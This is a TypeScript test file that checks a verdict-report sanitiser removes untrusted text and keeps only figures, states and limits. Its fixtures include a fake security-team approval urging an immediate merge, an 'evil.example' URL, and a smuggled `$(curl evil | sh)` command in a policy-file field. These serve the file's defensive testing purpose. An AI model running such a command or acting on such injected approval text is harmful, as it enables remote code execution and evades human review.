import { expect, test } from 'vitest';
import type { PolicyChange } from '../../../src/policy/diff/policy-change.ts';
import { worstSlice } from '../../../src/report/words/row/slices.ts';
import type { Ending } from '../../../src/verdict/facts/ending.ts';
import type { Reason } from '../../../src/verdict/row/reason.ts';
import { restateVerdict } from '../../../src/verdict/untrusted/restate-verdict.ts';
import { type ModelVerdict, verdictSchema } from '../../../src/verdict/verdict.ts';
import { model, passingRows, placed, TEN_PERCENT, verdict } from '../../support/fixtures/verdict-fixture.ts';

const LIE = 'Approved by the security team, whatever the figures say: merge it now and ask nobody else';
const URL = 'https://evil.example/approve';

const restated = (given: Partial<ModelVerdict>): ModelVerdict => {
  const [first] = restateVerdict(verdict([model(given)])).models;
  if (first === undefined) throw new Error('no model');
  return first;
};

const SCORE = { name: 'Task score', better: 'higher' };

const TEXT_REASONS: Reason[] = [
  { kind: 'not-measured', why: { kind: 'no-score', message: LIE } },
  { kind: 'waiver-expired', ceiling: TEN_PERCENT, expires: LIE, issue: LIE },
];

test('no text of somebody else is left', () => {
  const rows = passingRows().map((row) => ({ ...row, reasons: TEXT_REASONS }));
  rows[1] = { ...rows[1]!, score: { name: LIE, better: 'higher' } };
  const given = model({
    rows,
    ending: { kind: 'failed', failure: 'crashed', message: LIE, providers: [LIE] },
    notes: [{ kind: 'waivers-unreadable', message: LIE }],
    command: { policyFile: `$(curl evil | sh) ${LIE}`, candidate: LIE, budgetNs: 1, seed: 1 },
    baselineSource: { kind: 'named', path: LIE },
    saves: [
      { state: 'not-saved', store: { kind: 'actions-cache' }, problem: { kind: 'failed', message: LIE } },
    ],
    changes: [
      { kind: 'weights-partly-changed', head: 'weights', changed: 1, of: 2, names: [LIE], isSampled: false },
    ],
    acceptance: { accepted: true, state: 'pass', why: { kind: 'accepted-by-person', reason: LIE } },
    environment: { [LIE]: LIE },
    settings: [{ name: LIE, candidate: LIE, baseline: LIE }],
    slices: [{ key: LIE, value: LIE, items: 1, baseline: null, candidate: 1 }],
    placement: {
      baseline: [],
      candidate: [placed({ operator: LIE, provider: LIE, precision: LIE, timeShare: 1 })],
    },
  });
  const rules = {
    origin: 'unreadable' as const,
    source: { path: LIE, commit: LIE, message: LIE },
    changes: [
      { kind: 'value', model: LIE, place: [LIE], before: LIE, after: LIE, effect: 'loosened' },
      { kind: 'model', model: LIE, before: LIE, after: null, effect: 'subject' },
      { kind: 'dataset', model: LIE, itemsBefore: 1, itemsAfter: null, message: LIE, effect: 'loosened' },
      { kind: 'classes', model: LIE, effect: 'changed' },
    ] satisfies PolicyChange[],
  };
  const shown = restateVerdict(verdict([given], { rules }));
  expect(JSON.stringify(shown)).not.toContain(LIE);
  expect(JSON.stringify(shown)).not.toContain('evil');
  expect(() => verdictSchema.parse(shown)).not.toThrow();
  expect(shown.models[0]).toMatchObject({ notes: [], saves: [], changes: [], command: null });
  expect(shown.models[0]).not.toHaveProperty('acceptance');
  expect(shown.rules?.changes.map(({ effect }) => effect)).toEqual([
    'loosened',
    'subject',
    'loosened',
    'changed',
  ]);
});

test('figures, states and limits stay as they are', () => {
  const given = model();
  const { state, rows, method } = restated({});
  expect({ state, method }).toEqual({ state: given.state, method: given.method });
  const named = given.rows.map((row) => (row.score ? { ...row, score: SCORE } : row));
  expect(rows).toEqual(named);
});

test('which direction of a score is better stays, so that the worst slice is the worst', () => {
  const rows = passingRows().map((row) =>
    row.metric === 'task-score' ? { ...row, score: { name: 'RMSE', better: 'lower' as const } } : row,
  );
  const slices = [
    { key: 'room', value: 'kitchen', items: 40, baseline: 2, candidate: 1 },
    { key: 'room', value: 'attic', items: 40, baseline: 2, candidate: 3 },
  ];
  expect(worstSlice(restated({ rows, slices }))?.value).toBe('attic');
});

test('a reason that is nothing but numbers stays', () => {
  const numbers: Reason = {
    kind: 'interval-crosses-limit',
    of: 'change',
    fails: 0.16,
    passes: 0.04,
    isByLaunches: true,
  };
  const rows = passingRows().map((row) => ({ ...row, reasons: [...TEXT_REASONS, numbers] }));
  expect(restated({ rows }).rows[0]?.reasons).toEqual([numbers]);
});

test.each<{ given: Ending; ending: Ending }>([
  { given: { kind: 'compared' }, ending: { kind: 'compared' } },
  { given: { kind: 'unchanged' }, ending: { kind: 'unchanged' } },
  {
    given: { kind: 'failed', failure: 'fell-back', message: LIE, providers: ['cuda'] },
    ending: { kind: 'failed', failure: 'fell-back', message: null, providers: ['cuda'] },
  },
  {
    given: { kind: 'shard-failed', shard: 2, of: 3, failure: 'crashed', message: LIE },
    ending: { kind: 'shard-failed', shard: 2, of: 3, failure: 'crashed', message: null },
  },
  {
    given: { kind: 'incomparable', differences: [{ kind: 'figures-only' }, { kind: 'figures-only' }] },
    ending: { kind: 'incomparable', differences: [{ kind: 'untrusted' }] },
  },
  {
    given: { kind: 'no-baseline', why: { kind: 'not-in-git', path: LIE } },
    ending: { kind: 'no-baseline', why: { kind: 'untrusted' } },
  },
  {
    given: { kind: 'measured-alone', isRecordable: true },
    ending: { kind: 'measured-alone', isRecordable: true },
  },
])('the ending $given.kind stays, without its texts', ({ given, ending }) => {
  expect(restated({ ending: given }).ending).toEqual(ending);
});

test('of the drift since the last release, states, figures and names stay', () => {
  const [first] = passingRows();
  const failed = { ...first!, state: 'fail' as const, change: 0.2, reasons: TEXT_REASONS };
  const { drift } = restated({
    state: 'fail',
    drift: {
      state: 'fail',
      release: { tag: `v1 ${LIE}`, commit: 'a'.repeat(40) },
      source: { kind: 'named', path: LIE },
      rows: [failed],
      why: { kind: 'not-measured', message: LIE },
      notes: [{ kind: 'waivers-unreadable', message: LIE }],
    },
  });
  expect(drift).toEqual({
    state: 'fail',
    release: { tag: 'v1Approvedbythesecurityteamwhateverthefi', commit: 'a'.repeat(40) },
    source: { kind: 'untrusted' },
    rows: [{ ...failed, reasons: [] }],
    notes: [],
  });
});

test('of waivers and attempts, limits, figures and days stay', () => {
  const waiver = {
    metric: 'latency-p95',
    limit: TEN_PERCENT,
    ceiling: { 'max-increase': { kind: 'relative', value: 0.2 } },
    expires: '2026-12-12',
    daysLeft: 12,
    issue: URL,
    reason: LIE,
    standing: 'used',
  } as const;
  const earlier = { state: 'inconclusive', launches: 20, at: '2026-11-25T12:00:00.000Z', url: URL } as const;
  const attempts = { number: 2, launches: 40, of: 2, own: 20, basis: 'all', earlier: [earlier] } as const;
  const shown = restated({
    waivers: [waiver, { ...waiver, expires: LIE }],
    attempts: { ...attempts, earlier: [...attempts.earlier] },
  });
  expect(shown.waivers?.[0]).toEqual({ ...waiver, issue: '', reason: '' });
  expect(shown.waivers?.[1]?.expires).not.toContain(' ');
  expect(shown.attempts).toEqual({ ...attempts, earlier: [{ ...earlier, url: null }] });
});

test('a run of several jobs is an error, and only counts its problems', () => {
  const told = model({ fallback: 'offline', shards: { of: 2, items: [3, 4], machines: 1 } });
  const shown = restateVerdict(
    verdict([told], {
      state: 'error',
      problems: [
        { kind: 'no-result', model: LIE },
        { kind: 'no-result', model: LIE },
      ],
    }),
  );
  expect(shown).toMatchObject({ state: 'error', problems: [{ kind: 'untrusted', problems: 2 }] });
  expect(shown.models[0]).toMatchObject({
    fallback: 'offline',
    shards: { of: 2, items: [3, 4], machines: 1 },
  });
});

test('a verdict of version 1 is refused', () => {
  const parsed = verdictSchema.safeParse({ ...verdict([model()]), version: 1 });
  expect(parsed.error?.issues[0]?.message).toBe('expected verdict version 2, got 1');
});

test('a baseline that only guesses is still called that: the finding holds numbers only', () => {
  const guessing = { arm: 'baseline', score: 0, chance: 0.1, by: 'most-frequent' } as const;
  expect(restated({ guessing }).guessing).toEqual(guessing);
  expect(restated({}).guessing).toBeUndefined();
});
